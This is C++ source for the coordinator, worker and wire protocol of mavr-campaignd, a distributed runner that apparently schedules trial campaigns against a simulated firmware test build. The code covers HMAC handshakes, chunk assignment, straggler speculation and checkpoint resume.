    send_message(sock, MsgType::kReject,
                 encode_string_body("authentication failed"));
    return false;
  }
  return send_message(
      sock, MsgType::kHelloOk,
      encode_mac_body(auth_mac_coordinator(config_.auth_token, server_nonce,
                                           hello.peer_nonce)));
}

void Coordinator::serve(support::Socket sock, std::uint64_t handler_id) {
  ConnThroughput rate;
  {
    const std::lock_guard<std::mutex> lock(conns_mu_);
    live_fds_.push_back(sock.fd());
  }
  // Authentication gates *everything*: no campaign state is read or
  // written, and no chunk is assigned, until the peer proves the token.
  const bool authed = serve_handshake(sock);
  if (authed) {
    const std::lock_guard<std::mutex> lock(conns_mu_);
    rate.last_event = std::chrono::steady_clock::now();
    conn_rates_.push_back(&rate);
  }
  std::vector<HeldChunk> held;
  int idle_ms = 0;
  while (authed && !stopping_.load()) {
    Message msg;
    const support::IoStatus st = recv_message(sock, &msg, kServeSliceMs);
    if (st == support::IoStatus::kTimeout) {
      // Only a connection *holding an assignment* is on a deadline: its
      // silence past the timeout means the worker died wedged (a live one
      // streams a result or keeps the conversation going). Idle clients
      // and between-request workers may sit quiet.
      if (!held.empty()) {
        idle_ms += kServeSliceMs;
        if (idle_ms >= config_.worker_timeout_ms) break;
      }
      continue;
    }
    if (st == support::IoStatus::kClosed) break;
    idle_ms = 0;
    bool keep = false;
    try {
      keep = handle_message(sock, msg, &held, &rate);
    } catch (const support::Error&) {
      keep = false;  // malformed body: protocol violation, drop the peer
    }
    if (!keep) break;
  }
  {
    const std::lock_guard<std::mutex> lock(conns_mu_);
    live_fds_.erase(std::find(live_fds_.begin(), live_fds_.end(), sock.fd()));
    if (authed) std::erase(conn_rates_, &rate);
  }
  reclaim(held);
  {
    // Last act: hand this thread to the reaper. serve() must not touch
    // members after this line — stop() may have already swept the table.
    const std::lock_guard<std::mutex> lock(conns_mu_);
    finished_handlers_.push_back(handler_id);
  }
}

bool Coordinator::handle_message(support::Socket& sock, const Message& msg,
                                 std::vector<HeldChunk>* held,
                                 ConnThroughput* rate) {
  switch (msg.type) {
    case MsgType::kWorkRequest: return handle_work_request(sock, held, rate);
    case MsgType::kChunkResult:
      return handle_chunk_result(sock, msg, held, rate);
    case MsgType::kSubmit: return handle_submit(sock, msg);
    case MsgType::kPoll: return handle_poll(sock, msg);
    case MsgType::kPing:
      // Liveness probe: echo the sequence number back. Also answered by
      // the supervisor on its control channel; a worker talks to both.
      return send_message(sock, MsgType::kPong, msg.body);
    default: return false;  // a peer speaking coordinator-only messages
  }
}

void Coordinator::note_chunk_completed(ConnThroughput* rate) {
  const std::lock_guard<std::mutex> lock(conns_mu_);
  const auto now = std::chrono::steady_clock::now();
  const double dt =
      std::chrono::duration<double>(now - rate->last_event).count();
  rate->last_event = now;
  if (dt <= 0.0) return;  // same-tick completions: keep the old estimate
  const double sample = 1.0 / dt;
  rate->ewma_rate = rate->ewma_rate <= 0.0
                        ? sample
                        : kRateAlpha * sample +
                              (1.0 - kRateAlpha) * rate->ewma_rate;
}

std::uint32_t Coordinator::current_grain(const ConnThroughput* rate) {
  const std::lock_guard<std::mutex> lock(conns_mu_);
  double max_rate = 0.0;
  for (const ConnThroughput* r : conn_rates_) {
    max_rate = std::max(max_rate, r->ewma_rate);
  }
  return scaled_assign_chunks(config_.assign_chunks, rate->ewma_rate,
                              max_rate);
}

bool Coordinator::handle_work_request(support::Socket& sock,
                                      std::vector<HeldChunk>* held,
                                      ConnThroughput* rate) {
  if (stopping_.load() || draining_.load()) {
    return send_message(sock, MsgType::kShutdown, {});
  }
  // Grain first (conns_mu_), then assignment (mu_): the two locks are
  // never held together.
  const std::uint32_t grain = current_grain(rate);
  const auto now = std::chrono::steady_clock::now();
  AssignBody assign;
  {
    const std::lock_guard<std::mutex> lock(mu_);
    // Fair FIFO: always shard from the oldest incomplete campaign; later
    // campaigns only feed workers while earlier ones have nothing left to
    // hand out (their tail chunks in flight elsewhere).
    for (const std::unique_ptr<Campaign>& c : campaigns_) {
      if (c->state == CampaignState::kDone || c->pending.empty()) continue;
      const std::uint32_t take = static_cast<std::uint32_t>(
          std::min<std::uint64_t>(grain, c->pending.size()));
      assign.campaign_id = c->id;
      assign.config = c->config;
      for (std::uint32_t i = 0; i < take; ++i) {
        const std::uint64_t idx = c->pending.front();
        c->pending.pop_front();
        assign.chunks.push_back(idx);
        held->emplace_back(c->id, idx);
        c->inflight[idx] = Inflight{now, 1};
      }
      c->state = CampaignState::kRunning;
      break;
    }
    if (assign.chunks.empty() && config_.speculate) {
      speculate_overdue(now, grain, held, &assign);
    }
    counters_.chunks_assigned += assign.chunks.size();
  }
  if (assign.chunks.empty()) {
    return send_message(sock, MsgType::kWait,
                        encode_u32_body(config_.wait_hint_ms));
  }
  return send_message(sock, MsgType::kAssign, encode_assign(assign));
}

// Straggler recovery (requires mu_): with nothing pending anywhere, an
// idle worker is offered duplicate copies of the oldest campaign's
// overdue in-flight chunks. "Overdue" is an age test against a deadline
// derived from that campaign's EWMA service time, floored by
// speculation_min_ms so cold estimates cannot fire; the copy ceiling
// bounds wasted compute. Chosen chunks restart their age clock (the new
// copy is the one now racing the deadline).
void Coordinator::speculate_overdue(std::chrono::steady_clock::time_point now,
                                    std::uint32_t grain,
                                    std::vector<HeldChunk>* held,
                                    AssignBody* assign) {
  for (const std::unique_ptr<Campaign>& c : campaigns_) {
    if (c->state == CampaignState::kDone || c->inflight.empty()) continue;
    const double ewma_ms = c->ewma_service_s * 1000.0;
    const double deadline_ms =
        std::max(static_cast<double>(config_.speculation_min_ms),
                 config_.speculation_factor * ewma_ms);
    std::vector<std::uint64_t> overdue;
    for (const auto& [idx, flight] : c->inflight) {
      if (flight.copies >= config_.speculation_max_copies) continue;
      const double age_ms =
          std::chrono::duration<double, std::milli>(now - flight.last_assign)
              .count();
      if (age_ms >= deadline_ms) overdue.push_back(idx);
    }
    if (overdue.empty()) continue;
    // Ascending index: deterministic choice order and oldest-work-first
    // (assignment order is ascending, so lower index ≈ longer in flight).
    std::sort(overdue.begin(), overdue.end());
    if (overdue.size() > grain) overdue.resize(grain);
    assign->campaign_id = c->id;
    assign->config = c->config;
    for (std::uint64_t idx : overdue) {
      Inflight& flight = c->inflight[idx];
      ++flight.copies;
      flight.last_assign = now;
      assign->chunks.push_back(idx);
      held->emplace_back(c->id, idx);
      ++counters_.speculative_assigns;
    }
    return;
  }
}

bool Coordinator::handle_chunk_result(support::Socket& sock,
                                      const Message& msg,
                                      std::vector<HeldChunk>* held,
                                      ConnThroughput* rate) {
  ChunkResultBody body = decode_chunk_result(msg.body);
  const std::uint64_t idx = body.result.index;
  bool accept = false;
  {
    const std::lock_guard<std::mutex> lock(mu_);
    Campaign* c = find_campaign(body.campaign_id);
    if (c != nullptr && c->state != CampaignState::kDone) {
      const std::uint64_t begin = idx * campaign::kChunkTrials;
      const std::uint64_t end = std::min(begin + campaign::kChunkTrials,
                                         c->config.trials);
      if (idx >= c->n_chunks || body.result.attempts.size() != end - begin) {
        return false;  // wrong-shaped chunk: protocol violation
      }
      accept = true;
      if (!c->done[idx]) {
        // First copy home wins; feed its assignment→merge latency into
        // the EWMA that prices the speculation deadline, then retire the
        // in-flight entry — a losing copy arrives as a duplicate below.
        const auto it = c->inflight.find(idx);
        if (it != c->inflight.end()) {
          const double service_s =
              std::chrono::duration<double>(std::chrono::steady_clock::now() -
                                            it->second.last_assign)
                  .count();
          if (service_s > 0.0) {
            c->ewma_service_s =
                c->ewma_service_s <= 0.0
                    ? service_s
                    : kRateAlpha * service_s +
                          (1.0 - kRateAlpha) * c->ewma_service_s;
          }
          c->inflight.erase(it);
        }
        store_.append(c->fingerprint, body.result);
        c->results[idx] = std::move(body.result);
        c->done[idx] = 1;
        ++c->n_done;
        c->trials_done += end - begin;
        if (c->n_done == c->n_chunks) finalize(c);
      } else {
        // Byte-identical by the determinism contract: acknowledge, don't
        // re-merge.
        ++counters_.duplicate_results;
      }
    }
  }
  std::erase(*held, HeldChunk{body.campaign_id, idx});
  note_chunk_completed(rate);
  if (!accept) {
    // Campaign finished or evaporated (e.g. resumed fully from
    // checkpoint): tell the worker to drop the rest of this range.
    return send_message(sock, MsgType::kAbortAssign, {});
  }
  return send_message(sock, MsgType::kChunkAck, {});
}

bool Coordinator::handle_submit(support::Socket& sock, const Message& msg) {
  campaign::CampaignConfig config;
  try {
    config = decode_submit(msg.body);
  } catch (const support::Error&) {
    return send_message(sock, MsgType::kReject,
                        encode_string_body("malformed campaign spec"));
  }
  if (config.trials == 0 || config.trials > kMaxTrialsPerCampaign) {
    return send_message(
        sock, MsgType::kReject,
        encode_string_body("trials must be in [1, 100000000]"));
  }
  if (draining_.load()) {
    return send_message(sock, MsgType::kReject,
                        encode_string_body("coordinator draining"));
  }
  const support::Bytes canonical = wire::canonical_config(config);
  const std::uint64_t fingerprint = wire::config_fingerprint(config);
  std::uint64_t id = 0;
  {
    const std::lock_guard<std::mutex> lock(mu_);
    // Submit is idempotent over live campaigns: a client retrying after a
    // lost kSubmitAck must land on the campaign its first attempt
    // admitted, not enqueue a sibling. Identity is the exact canonical
    // encoding (the fingerprint is only a prefilter). Completed campaigns
    // are exempt — resubmitting a finished config deliberately runs it
    // again (resumed instantly from checkpoints when enabled).
    for (const std::unique_ptr<Campaign>& c : campaigns_) {
      if (c->state == CampaignState::kDone ||
          c->fingerprint != fingerprint || c->canonical != canonical) {
        continue;
      }
      ++counters_.submits_deduped;
      return send_message(sock, MsgType::kSubmitAck, encode_u64_body(c->id));
    }
    std::size_t incomplete = 0;
    for (const std::unique_ptr<Campaign>& c : campaigns_) {
      incomplete += c->state != CampaignState::kDone ? 1 : 0;
    }
    if (incomplete >= config_.max_queue) {
      return send_message(
          sock, MsgType::kReject,
          encode_string_body("campaign queue full (backpressure)"));
    }
    auto c = std::make_unique<Campaign>();
    c->id = next_campaign_id_++;
    c->config = config;
    c->fingerprint = fingerprint;
    c->canonical = canonical;
    c->n_chunks = campaign::num_chunks(config.trials);
    c->done.assign(c->n_chunks, 0);
    c->results.resize(c->n_chunks);
    // Resume: chunks already in the checkpoint store under this config's
    // fingerprint are merged up front and never rescheduled.
    for (campaign::ChunkResult& r : store_.load(c->fingerprint, c->n_chunks)) {
      const std::uint64_t begin = r.index * campaign::kChunkTrials;
      const std::uint64_t end = std::min(begin + campaign::kChunkTrials,
                                         config.trials);
      if (r.attempts.size() != end - begin) continue;  // stale/odd record
      const std::uint64_t idx = r.index;
      c->results[idx] = std::move(r);
      c->done[idx] = 1;
      ++c->n_done;
      c->trials_done += end - begin;
    }
    for (std::uint64_t i = 0; i < c->n_chunks; ++i) {
      if (!c->done[i]) c->pending.push_back(i);
    }
    if (c->n_done == c->n_chunks) {
      finalize(c.get());
    } else if (c->n_done > 0) {
      c->state = CampaignState::kRunning;
    }
    id = c->id;
    campaigns_.push_back(std::move(c));
  }
  return send_message(sock, MsgType::kSubmitAck, encode_u64_body(id));
}

bool Coordinator::handle_poll(support::Socket& sock, const Message& msg) {
  const std::uint64_t id = decode_u64_body(msg.body);
  StatusBody status;
  {
    const std::lock_guard<std::mutex> lock(mu_);
    Campaign* c = find_campaign(id);
    if (c == nullptr) {
      return send_message(sock, MsgType::kReject,
                          encode_string_body("unknown campaign id"));
    }
    status = status_of(*c);
  }
  // Durability batching point (DESIGN.md §14): everything appended since
  // the last poll reaches the platter before the client sees this status —
  // a client that observed progress N can rely on ≥ N surviving a power
  // cut. Outside mu_ so an fsync stall never blocks chunk results.
  store_.sync();
  return send_message(sock, MsgType::kStatus, encode_status(status));
}

void Coordinator::reclaim(const std::vector<HeldChunk>& held) {
  if (held.empty()) return;
  const std::lock_guard<std::mutex> lock(mu_);
  for (auto it = held.rbegin(); it != held.rend(); ++it) {
    Campaign* c = find_campaign(it->first);
    if (c == nullptr || c->state == CampaignState::kDone) continue;
    if (c->done[it->second]) continue;
    // One live copy (this connection's) is gone. Only when it was the
    // *last* does the chunk re-enter the pending pool — a surviving
    // speculative copy is still racing to deliver it.
    const auto flight = c->inflight.find(it->second);
    if (flight != c->inflight.end() && flight->second.copies > 1) {
      --flight->second.copies;
      continue;
    }
    c->inflight.erase(it->second);
    // Front of the queue (in reverse, preserving ascending order): a
    // died-with-it chunk is the oldest outstanding work.
    c->pending.push_front(it->second);
    ++counters_.chunks_reclaimed;
  }
}

void Coordinator::finalize(Campaign* c) {
  c->final_stats = campaign::merge_chunk_results(c->results);
  c->state = CampaignState::kDone;
  c->results.clear();  // the stats are what clients need from here on
  c->results.shrink_to_fit();
  c->pending.clear();
  c->inflight.clear();
}

Coordinator::Campaign* Coordinator::find_campaign(std::uint64_t id) {
  for (const std::unique_ptr<Campaign>& c : campaigns_) {
    if (c->id == id) return c.get();
  }
  return nullptr;
}

StatusBody Coordinator::status_of(const Campaign& c) {
  StatusBody status;
  status.state = c.state;
  status.chunks_done = c.n_done;
  status.chunks_total = c.n_chunks;
  status.trials_done = c.trials_done;
  status.trials_total = c.config.trials;
  for (const std::unique_ptr<Campaign>& other : campaigns_) {
    if (other->id == c.id) break;
    status.queue_position += other->state != CampaignState::kDone ? 1 : 0;
  }
  if (c.state == CampaignState::kDone) {
    status.stats = c.final_stats;
  } else {
    // Incremental aggregate: merge what's done so far, in index order.
    std::vector<campaign::ChunkResult> partial;
    partial.reserve(c.n_done);
    for (std::uint64_t i = 0; i < c.n_chunks; ++i) {
      if (c.done[i]) partial.push_back(c.results[i]);
    }
    status.stats = campaign::merge_chunk_results(partial);
  }
  return status;
}

}  // namespace mavr::campaignd
