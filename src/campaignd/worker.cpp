#include "campaignd/worker.hpp"

#include <algorithm>
#include <chrono>
#include <optional>
#include <thread>

#include "campaign/scenarios.hpp"
#include "campaignd/protocol.hpp"
#include "firmware/profile.hpp"
#include "support/backoff.hpp"
#include "support/error.hpp"
#include "support/socket.hpp"

namespace mavr::campaignd {

namespace {

/// recv slice so a raised stop flag is noticed quickly mid-wait.
constexpr int kRecvSliceMs = 100;

/// recv_message in stop-aware slices. Returns kTimeout early (without
/// having consumed anything) if `stop` is raised between slices.
support::IoStatus recv_reply(support::Socket& sock, Message* msg,
                             const std::atomic<bool>& stop,
                             int reply_timeout_ms) {
  int waited = 0;
  while (waited < reply_timeout_ms) {
    if (stop.load(std::memory_order_relaxed)) {
      return support::IoStatus::kTimeout;
    }
    const support::IoStatus st = recv_message(
        sock, msg, std::min(kRecvSliceMs, reply_timeout_ms));
    if (st != support::IoStatus::kTimeout) return st;
    waited += kRecvSliceMs;
  }
  return support::IoStatus::kTimeout;
}

/// Sleeps up to `total_ms`, waking within ~kRecvSliceMs of `stop` being
/// raised — an idle worker must honor the responsiveness contract
/// recv_reply gives a busy one.
void interruptible_sleep(std::uint32_t total_ms,
                         const std::atomic<bool>& stop) {
  using Clock = std::chrono::steady_clock;
  const auto deadline = Clock::now() + std::chrono::milliseconds(total_ms);
  while (!stop.load(std::memory_order_relaxed)) {
    const auto left = deadline - Clock::now();
    if (left <= std::chrono::milliseconds::zero()) return;
    std::this_thread::sleep_for(
        std::min<Clock::duration>(left, std::chrono::milliseconds(
                                            kRecvSliceMs)));
  }
}

}  // namespace

std::uint64_t run_worker(const std::string& endpoint,
                         const WorkerOptions& options) {
  std::uint64_t completed = 0;
  static const std::atomic<bool> kNeverStop{false};
  const std::atomic<bool>& stop = options.stop ? *options.stop : kNeverStop;
  const auto ep = support::parse_endpoint(endpoint);
  if (!ep) return completed;  // malformed spec: nothing to connect to
  // One firmware generate+link, shared across campaigns: every board
  // scenario attacks the same stock testapp build.
  std::optional<campaign::SimFixture> fixture;
  // Paces reconnects after a connection breaks: full-jitter exponential
  // ladder, climbed on every broken connection, reset by a completed
  // handshake. The connect call's own linear retry only covers racing
  // the coordinator's initial bind.
  support::Backoff reconnect(options.reconnect_backoff_ms,
                             options.reconnect_backoff_max_ms,
                             options.backoff_seed);

  while (!stop.load()) {
    support::Socket sock = support::connect_endpoint(
        *ep, options.connect_attempts, options.backoff_ms);
    if (!sock.valid()) return completed;  // coordinator is gone for good
    if (options.fault_plane != nullptr) options.fault_plane->arm(sock);

    switch (client_handshake(sock, options.auth_token,
                             options.reply_timeout_ms)) {
      case HandshakeResult::kOk:
        reconnect.reset();
        break;
      case HandshakeResult::kRejected:
        // Wrong token or version: reconnecting cannot fix it.
        return completed;
      case HandshakeResult::kTransport:
        // Connection died mid-handshake: back off, retry from connect.
        interruptible_sleep(
            static_cast<std::uint32_t>(reconnect.next_delay_ms()), stop);
        continue;
    }

    bool conn_ok = true;
    while (conn_ok && !stop.load()) {
      if (options.max_chunks != 0 && completed >= options.max_chunks) {
        return completed;  // "die" here; held chunks get reassigned
      }
      if (options.stall_after_chunks != 0 &&
          completed >= options.stall_after_chunks) {
        // Straggler model: wedge with the connection open — the chunk it
        // would have run next must come back via speculation or the
        // coordinator's assignment timeout, not via reclaim-on-close.
        while (!stop.load()) interruptible_sleep(1'000, stop);
        return completed;
      }
      if (!send_message(sock, MsgType::kWorkRequest, {})) break;
      Message msg;
      if (recv_reply(sock, &msg, stop, options.reply_timeout_ms) !=
          support::IoStatus::kOk) {
        break;
      }

      try {
      switch (msg.type) {
        case MsgType::kShutdown:
          return completed;
        case MsgType::kWait: {
          const std::uint32_t hint_ms = decode_u32_body(msg.body);
          interruptible_sleep(std::min<std::uint32_t>(hint_ms, 500), stop);
          break;
        }
        case MsgType::kAssign: {
          const AssignBody assign = decode_assign(msg.body);
          if (scenario_uses_board(assign.config.scenario) && !fixture) {
            fixture = campaign::make_sim_fixture(
                firmware::testapp(/*vulnerable=*/true));
          }
          const campaign::TrialFn fn = campaign::make_trial_fn(
              assign.config, fixture ? &*fixture : nullptr);
          for (std::uint64_t idx : assign.chunks) {
            if (stop.load()) return completed;
            if (options.stall_after_chunks != 0 &&
                completed >= options.stall_after_chunks) {
              // Wedge *holding the rest of this range*: these chunks are
              // in flight at the coordinator and only speculation or the
              // assignment timeout can recover them while we sit here.
              while (!stop.load()) interruptible_sleep(1'000, stop);
              return completed;
            }
            std::vector<campaign::ChunkResult> chunk =
                campaign::run_chunk_range(assign.config, fn, idx, idx + 1,
                                          &stop);
            if (chunk.empty()) return completed;  // aborted mid-chunk
            ChunkResultBody body;
            body.campaign_id = assign.campaign_id;
            body.result = std::move(chunk.front());
            if (!send_message(sock, MsgType::kChunkResult,
                              encode_chunk_result(body))) {
              conn_ok = false;
              break;
            }
            Message reply;
            if (recv_reply(sock, &reply, stop, options.reply_timeout_ms) !=
                support::IoStatus::kOk) {
              conn_ok = false;
              break;
            }
            if (reply.type == MsgType::kAbortAssign) {
              break;  // campaign is done/gone; drop the rest of this range
            }
            if (reply.type != MsgType::kChunkAck) {
              conn_ok = false;  // protocol violation
              break;
            }
            ++completed;
            if (options.max_chunks != 0 && completed >= options.max_chunks) {
              return completed;
            }
          }
          break;
        }
        default:
          conn_ok = false;  // coordinator spoke a client-only message
          break;
      }
      } catch (const support::Error&) {
        conn_ok = false;  // malformed reply body: drop the connection
      }
    }
    // Connection died: back off (jittered, exponential in consecutive
    // breaks) and try to re-establish it.
    interruptible_sleep(static_cast<std::uint32_t>(reconnect.next_delay_ms()),
                        stop);
  }
  return completed;
}

}  // namespace mavr::campaignd
