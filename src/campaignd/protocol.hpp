// campaignd wire protocol: length-prefixed, CRC-32-framed messages over an
// AF_UNIX stream (DESIGN.md §12).
//
// Frame layout:
//   u32  payload length (little-endian, bounded by kMaxFrameBytes)
//   u32  CRC-32/ISO-HDLC of the payload (support/crc — the same polynomial
//        the reflash pipeline uses to frame firmware containers)
//   payload = [u8 wire version][u8 MsgType][typed body]
// A length, CRC, or version mismatch is indistinguishable from a torn
// stream, so receivers report it as kClosed and the connection is dropped —
// corruption never silently merges a wrong chunk into a campaign.
//
// Conversation shapes (one request, one reply; the coordinator never sends
// unsolicited frames):
//   handshake (first, on every connection):
//            kHello       → kChallenge | kReject
//            kAuth        → kHelloOk   | kReject
//   worker:  kWorkRequest → kAssign | kWait | kShutdown
//            kChunkResult → kChunkAck | kAbortAssign
//   client:  kSubmit      → kSubmitAck | kReject
//            kPoll        → kStatus    | kReject
//
// The handshake exists because the TCP transport (DESIGN.md §13) has no
// filesystem permissions guarding the listener: the peer proves knowledge
// of the coordinator's shared token by answering a fresh nonce with
// HMAC-SHA-256(token, context || nonces) before any campaign state is
// touched, and the coordinator proves the same over the peer's nonce in
// kHelloOk (a rogue listener cannot feed workers bogus work). Distinct
// context strings on the two directions prevent reflection. With an empty
// token (the AF_UNIX default) the exchange still runs — it carries the
// protocol version check — and any peer presenting a token is rejected.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "campaign/campaign.hpp"
#include "campaign/wire.hpp"
#include "support/bytes.hpp"
#include "support/sha256.hpp"
#include "support/socket.hpp"

namespace mavr::campaignd {

/// Hard ceiling on one frame. A chunk result is ~600 bytes; this bound
/// exists so a corrupt length field cannot provoke a giant allocation.
inline constexpr std::uint32_t kMaxFrameBytes = 1u << 20;

enum class MsgType : std::uint8_t {
  // worker ↔ coordinator
  kWorkRequest = 1,  ///< worker: idle, give me chunks
  kAssign = 2,       ///< coordinator: run these chunk indices
  kWait = 3,         ///< coordinator: no work; re-poll after a delay
  kShutdown = 4,     ///< coordinator: draining, exit your loop
  kChunkResult = 5,  ///< worker: one completed chunk
  kChunkAck = 6,     ///< coordinator: result recorded, keep going
  kAbortAssign = 7,  ///< coordinator: campaign gone, abandon the range
  // client ↔ coordinator
  kSubmit = 8,     ///< client: new campaign spec
  kSubmitAck = 9,  ///< coordinator: admitted, here is its id
  kReject = 10,    ///< coordinator: refused (backpressure, bad spec, ...)
  kPoll = 11,      ///< client: status of campaign id
  kStatus = 12,    ///< coordinator: state + incremental aggregates
  // handshake (either peer kind ↔ coordinator)
  kHello = 13,      ///< peer: protocol version + its nonce
  kChallenge = 14,  ///< coordinator: the nonce the peer must answer
  kAuth = 15,       ///< peer: HMAC over the coordinator's nonce
  kHelloOk = 16,    ///< coordinator: accepted + HMAC over the peer's nonce
  // liveness (worker ↔ supervisor / coordinator)
  kPing = 17,  ///< peer: liveness probe (u64 sequence number)
  kPong = 18,  ///< supervisor/coordinator: echo of the probe's sequence
};

/// Version of the *conversation* (handshake shape, message set). Distinct
/// from campaign::wire::kWireVersion, which versions the typed encodings;
/// both are checked — the wire version on every frame, the protocol
/// version once in kHello.
inline constexpr std::uint8_t kProtocolVersion = 2;

struct Message {
  MsgType type = MsgType::kWorkRequest;
  support::Bytes body;
};

/// Frames and sends one message; false when the peer is gone.
bool send_message(support::Socket& sock, MsgType type,
                  std::span<const std::uint8_t> body);

/// Receives one full frame. kTimeout when no frame started before the
/// deadline; kClosed on EOF, desync, CRC/version mismatch, or oversized
/// length.
support::IoStatus recv_message(support::Socket& sock, Message* out,
                               int timeout_ms);

// --- typed bodies -------------------------------------------------------
// Decoders throw support::Error on malformed input; connection handlers
// treat that as a protocol violation and drop the peer.

struct AssignBody {
  std::uint64_t campaign_id = 0;
  campaign::CampaignConfig config;
  std::vector<std::uint64_t> chunks;  ///< chunk indices, ascending
};
support::Bytes encode_assign(const AssignBody& body);
AssignBody decode_assign(const support::Bytes& body);

struct ChunkResultBody {
  std::uint64_t campaign_id = 0;
  campaign::ChunkResult result;
};
support::Bytes encode_chunk_result(const ChunkResultBody& body);
ChunkResultBody decode_chunk_result(const support::Bytes& body);

enum class CampaignState : std::uint8_t {
  kQueued = 0,   ///< admitted, no chunk assigned yet
  kRunning = 1,  ///< at least one chunk assigned or completed
  kDone = 2,     ///< every chunk merged; stats are final
};
const char* campaign_state_name(CampaignState state);

struct StatusBody {
  CampaignState state = CampaignState::kQueued;
  std::uint64_t chunks_done = 0;
  std::uint64_t chunks_total = 0;
  std::uint64_t trials_done = 0;
  std::uint64_t trials_total = 0;
  /// Incomplete campaigns admitted before this one (0 = at the head).
  std::uint64_t queue_position = 0;
  /// Merge of the chunks completed so far — the incremental aggregate a
  /// polling client streams; equal to the final stats once state is kDone.
  campaign::CampaignStats stats;
};
support::Bytes encode_status(const StatusBody& body);
StatusBody decode_status(const support::Bytes& body);

// Single-value bodies: kSubmitAck/kPoll (u64 id), kWait (u32 ms),
// kReject (reason string).
support::Bytes encode_u64_body(std::uint64_t value);
std::uint64_t decode_u64_body(const support::Bytes& body);
support::Bytes encode_u32_body(std::uint32_t value);
std::uint32_t decode_u32_body(const support::Bytes& body);
support::Bytes encode_string_body(const std::string& text);
std::string decode_string_body(const support::Bytes& body);

support::Bytes encode_submit(const campaign::CampaignConfig& config);
campaign::CampaignConfig decode_submit(const support::Bytes& body);

// --- handshake ----------------------------------------------------------

struct HelloBody {
  std::uint8_t protocol_version = kProtocolVersion;
  std::uint64_t peer_nonce = 0;  ///< the peer's freshness for kHelloOk
};
support::Bytes encode_hello(const HelloBody& body);
HelloBody decode_hello(const support::Bytes& body);

/// kAuth / kHelloOk bodies: a raw 32-byte HMAC-SHA-256.
support::Bytes encode_mac_body(const support::Sha256Digest& mac);
support::Sha256Digest decode_mac_body(const support::Bytes& body);

/// The MAC a peer sends in kAuth: HMAC(token, "peer" ctx || server nonce
/// || peer nonce).
support::Sha256Digest auth_mac_peer(const std::string& token,
                                    std::uint64_t server_nonce,
                                    std::uint64_t peer_nonce);
/// The MAC the coordinator sends in kHelloOk: HMAC(token, "coord" ctx ||
/// peer nonce || server nonce).
support::Sha256Digest auth_mac_coordinator(const std::string& token,
                                           std::uint64_t server_nonce,
                                           std::uint64_t peer_nonce);

/// A nonce for the challenge: non-deterministic by design (handshake
/// freshness must not repeat across runs, unlike campaign results).
std::uint64_t fresh_nonce();

enum class HandshakeResult {
  kOk,        ///< authenticated; the conversation may proceed
  kRejected,  ///< coordinator said kReject — wrong token/version; permanent
  kTransport, ///< connection died mid-handshake; retrying may help
};

/// Runs the peer side of the handshake (kHello → kChallenge → kAuth →
/// kHelloOk) on a fresh connection, verifying the coordinator's kHelloOk
/// proof. `reject_reason` (optional) receives the kReject text.
HandshakeResult client_handshake(support::Socket& sock,
                                 const std::string& token, int timeout_ms,
                                 std::string* reject_reason = nullptr);

}  // namespace mavr::campaignd
