// mavr-campaignd worker: connects to a coordinator (AF_UNIX or TCP),
// authenticates, pulls chunk assignments, evaluates them with the same
// `run_chunk_range` the in-process engine uses, and streams the results
// back (DESIGN.md §12–§13).
//
// The worker is stateless between assignments — everything a chunk needs
// is (config, chunk index), so a worker can die at any point and the
// coordinator simply re-assigns. The only cached state is the board
// SimFixture (one firmware generate+link), shared across campaigns
// because every board scenario runs the same stock testapp build.
#pragma once

#include <atomic>
#include <cstdint>
#include <string>

namespace mavr::campaignd {

struct WorkerOptions {
  /// Connection attempts before giving up (covers both the initial
  /// connect racing the coordinator's bind, and reconnects after the
  /// coordinator restarts).
  int connect_attempts = 40;
  /// Linear backoff step between attempts (capped at 500ms inside the
  /// transport's retrying connect).
  int backoff_ms = 25;
  /// Exit after completing this many chunks; 0 = unlimited. Lets tests
  /// model a worker that dies partway through a campaign.
  std::uint64_t max_chunks = 0;
  /// Shared handshake token; must match the coordinator's. Empty matches
  /// a coordinator configured without one (the AF_UNIX default).
  std::string auth_token;
  /// Cooperative stop: checked between trials (aborting the in-flight
  /// chunk), between protocol round-trips, and within ~100ms inside a
  /// kWait sleep.
  const std::atomic<bool>* stop = nullptr;
};

/// Runs the pull loop against the coordinator at `endpoint`
/// (`unix:/path`, `tcp:host:port`, or a bare AF_UNIX path) until the
/// coordinator says kShutdown, the connection cannot be (re)established,
/// the handshake is rejected (wrong token — permanent, no retry),
/// `stop` is raised, or `max_chunks` is reached.
/// Returns the number of chunks completed and acknowledged.
std::uint64_t run_worker(const std::string& endpoint,
                         const WorkerOptions& options = {});

}  // namespace mavr::campaignd
