// mavr-campaignd worker: connects to a coordinator (AF_UNIX or TCP),
// authenticates, pulls chunk assignments, evaluates them with the same
// `run_chunk_range` the in-process engine uses, and streams the results
// back (DESIGN.md §12–§13).
//
// The worker is stateless between assignments — everything a chunk needs
// is (config, chunk index), so a worker can die at any point and the
// coordinator simply re-assigns. The only cached state is the board
// SimFixture (one firmware generate+link), shared across campaigns
// because every board scenario runs the same stock testapp build.
#pragma once

#include <atomic>
#include <cstdint>
#include <string>

#include "support/netfault.hpp"

namespace mavr::campaignd {

struct WorkerOptions {
  /// Connection attempts before giving up (covers both the initial
  /// connect racing the coordinator's bind, and reconnects after the
  /// coordinator restarts).
  int connect_attempts = 40;
  /// Linear backoff step between attempts (capped at 500ms inside the
  /// transport's retrying connect).
  int backoff_ms = 25;
  /// Exit after completing this many chunks; 0 = unlimited. Lets tests
  /// model a worker that dies partway through a campaign.
  std::uint64_t max_chunks = 0;
  /// After completing this many chunks, wedge: hold the connection (and
  /// any remaining assignment) while making no progress until `stop`.
  /// 0 = never. Models the straggler the coordinator's speculative
  /// re-assignment exists to route around.
  std::uint64_t stall_after_chunks = 0;
  /// Shared handshake token; must match the coordinator's. Empty matches
  /// a coordinator configured without one (the AF_UNIX default).
  std::string auth_token;
  /// Cooperative stop: checked between trials (aborting the in-flight
  /// chunk), between protocol round-trips, and within ~100ms inside a
  /// kWait sleep.
  const std::atomic<bool>* stop = nullptr;
  /// Reply deadline per request before the connection is declared dead
  /// and re-established. Chaos tests shrink this so a dropped frame
  /// costs milliseconds, not the production-sized timeout.
  int reply_timeout_ms = 10'000;
  /// Full-jitter exponential backoff between reconnects after a live
  /// connection breaks (support::Backoff) — distinct seeds keep a fleet
  /// that lost one coordinator from reconnecting in lockstep.
  int reconnect_backoff_ms = 25;
  int reconnect_backoff_max_ms = 2'000;
  std::uint64_t backoff_seed = 1;
  /// Chaos plane: when set, every connection this worker opens is armed
  /// with a fault stream (worker-side injection; the coordinator arms
  /// its own side via CoordinatorConfig::net_faults).
  support::NetFaultPlane* fault_plane = nullptr;
};

